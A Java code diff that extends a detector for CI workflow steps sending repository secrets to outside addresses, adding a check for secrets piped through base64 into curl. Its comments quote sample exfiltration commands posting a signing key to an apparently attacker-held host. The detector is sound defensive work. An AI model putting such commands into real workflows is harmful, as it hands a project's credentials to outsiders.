@@ -13,7 +13,8 @@ import java.util.regex.Pattern;
  * A CI workflow's step that sends a secret out in a request's body or its address (decision 286):
  * {@code run: curl -X POST https://hooks.buildcache-cdn.dev/w -d "k=${{ secrets.LABEL_SIGNING_KEY
  * }}"}, or the secret handed to the step's environment first ({@code env: K: ${{ secrets.K }}},
- * then {@code -d "k=$K"}). The next run hands the repository's secrets to whoever holds that
+ * then {@code -d "k=$K"}), or printed into a pipe that ends in a request ({@code echo "$K" | base64
+ * | curl -d @- …}, session 15). The next run hands the repository's secrets to whoever holds that
  * address. A secret used as what it is, a credential in a header ({@code -H "Authorization: Bearer
  * …"}, {@code -u}) or the address itself ({@code SLACK_WEBHOOK_URL}), is not read.
  */
@@ -110,10 +111,19 @@ final class WorkflowSecretsSent {
     // it.
     String[] tokens = EXPRESSION_BLANKS.matcher(line.strip()).replaceAll("").split("\\s+");
     String previous = "";
+    boolean printed = false; // a secret given to a command before a pipe
+    boolean piped = false;
     for (String token : tokens) {
       String name = secretIn(token, held);
-      if (name != null && !address(name) && inBody(previous, token)) {
-        return line.strip();
+      if (name != null && !address(name)) {
+        if (inBody(previous, token)) {
+          return line.strip();
+        }
+        printed = true;
+      }
+      piped |= printed && token.equals("|");
+      if (piped && PatternLiterals.finds(SENDER, token)) {
+        return line.strip(); // echo "$K" | base64 | curl -d @- …: the secret piped into a request
       }
       previous = token;
     }
